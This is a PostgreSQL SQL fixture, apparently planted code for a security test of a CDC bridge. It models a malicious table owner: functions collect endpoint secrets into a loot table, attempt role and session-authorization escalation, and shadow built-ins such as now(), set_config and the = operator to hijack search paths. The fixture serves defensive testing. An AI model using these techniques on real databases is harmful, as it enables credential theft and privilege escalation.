-- What the owner of e-Res's tables plants: see test_planted_code.py. Runs as that role.

create schema evil;
grant usage on schema evil to public;
create table evil.loot (place text, who text, what text);
create table evil.attempt (who text);
grant insert on evil.loot, evil.attempt to public;

-- Writes down every secret that the current role can read, and returns them, or the word nothing.
create function evil.grab(place text) returns text language plpgsql as $$
declare
  found text;
begin
  begin
    select string_agg(concat(e.secret, e.previous_secret, e.headers::text), ' ') into found from cdc_bridge.endpoint e;
  exception when others then
    return 'nothing';
  end;
  begin
    insert into evil.loot values (place, current_user, found);
  exception when others then
    null;
  end;
  return found;
end
$$;

create function evil.plant() returns text language plpgsql as $$
declare
  statement text;
begin
  begin
    insert into evil.attempt values (current_user);
  exception when others then
    null;
  end;
  foreach statement in array array[
    'select set_config(''search_path'', ''evil, pg_catalog'', false)',
    'select set_config(''default_transaction_read_only'', ''off'', false)',
    'select set_config(''transaction_read_only'', ''off'', false)',
    'select set_config(''row_security'', ''on'', false)',
    'select set_config(''session_preload_libraries'', ''evil'', false)',
    'declare held cursor with hold for select evil.grab(''held cursor'')',
    'declare scrolled no scroll cursor with hold for select evil.grab(''held cursor'')',
    'set role cdc_bridge',
    'set role postgres',
    'reset role',
    'reset session authorization',
    'set session authorization default',
    'alter function cdc_bridge.load_reservation(text[], bigint) security invoker',
    'alter function cdc_bridge.payload_keys(text, text, timestamptz, integer, bigint) security invoker',
    'create or replace function cdc_bridge.payload_types(payload text) returns text[] language sql as ''select array[evil.grab(''''replaced'''')]''',
    'create function cdc_bridge.planted() returns text language sql as ''select evil.grab(''''created'''')''',
    'grant cdc_bridge_loader to cdc_bridge_test_planter',
    'grant execute on all functions in schema cdc_bridge to public',
    'create temp table planted (x text)',
    'create temp table planted_too (x text default evil.grab(''default'')) on commit drop',
    'create constraint trigger planted after insert on planted deferrable initially deferred for each row execute function evil.deferred()',
    'insert into planted values (''x'')',
    'insert into cdc_bridge.endpoint default values',
    'update cdc_bridge.payload_definition set query = ''''',
    'select cdc_bridge.define_payload(''reservation'', ''select 1 as id'')',
    'notify cdc_bridge_change',
    'do $do$ begin perform evil.grab(''do''); end $do$'
  ] loop
    begin
      execute statement;
    exception when others then
      null;
    end;
  end loop;
  -- What outlives the transaction.
  begin
    perform pg_try_advisory_lock_shared(number), pg_try_advisory_lock_shared(52683, number) from generate_series(1, 40) as number;
  exception when others then
    null;
  end;
  -- The names under which psycopg prepares statements, with whatever parameters they have.
  begin
    execute 'deallocate all';
    for number in 0..40 loop
      execute format('prepare %I as select evil.grab(''prepared'')', '_pg3_' || number);
    end loop;
  exception when others then
    null;
  end;
  return evil.grab('direct');
end
$$;

create function evil.deferred() returns trigger language plpgsql as $$
begin
  perform evil.grab('deferred trigger');
  return null;
end
$$;

-- What a polluted search path would find in front of PostgreSQL's own.
create function evil.now() returns timestamptz language plpgsql as $$begin perform evil.grab('now'); return pg_catalog.now(); end$$;
create function evil.clock_timestamp() returns timestamptz language plpgsql as
  $$begin perform evil.grab('clock'); return pg_catalog.clock_timestamp(); end$$;
create function evil.pg_current_snapshot() returns pg_snapshot language plpgsql as
  $$begin perform evil.grab('snapshot'); return pg_catalog.pg_current_snapshot(); end$$;
create function evil.unnest(text[]) returns setof text language plpgsql as
  $$begin perform evil.grab('unnest'); return query select pg_catalog.unnest($1); end$$;
create function evil.set_config(text, text, boolean) returns text language plpgsql as
  $$begin perform evil.grab('set_config'); return pg_catalog.set_config($1, $2, $3); end$$;
create function evil.same(text, text) returns boolean language plpgsql as
  $$begin perform evil.plant(); perform evil.grab('operator'); return $1 operator(pg_catalog.=) $2; end$$;
create operator evil.= (leftarg = text, rightarg = text, function = evil.same);
create function evil.same_number(bigint, bigint) returns boolean language plpgsql as
  $$begin perform evil.grab('operator'); return $1 operator(pg_catalog.=) $2; end$$;
create operator evil.= (leftarg = bigint, rightarg = bigint, function = evil.same_number);
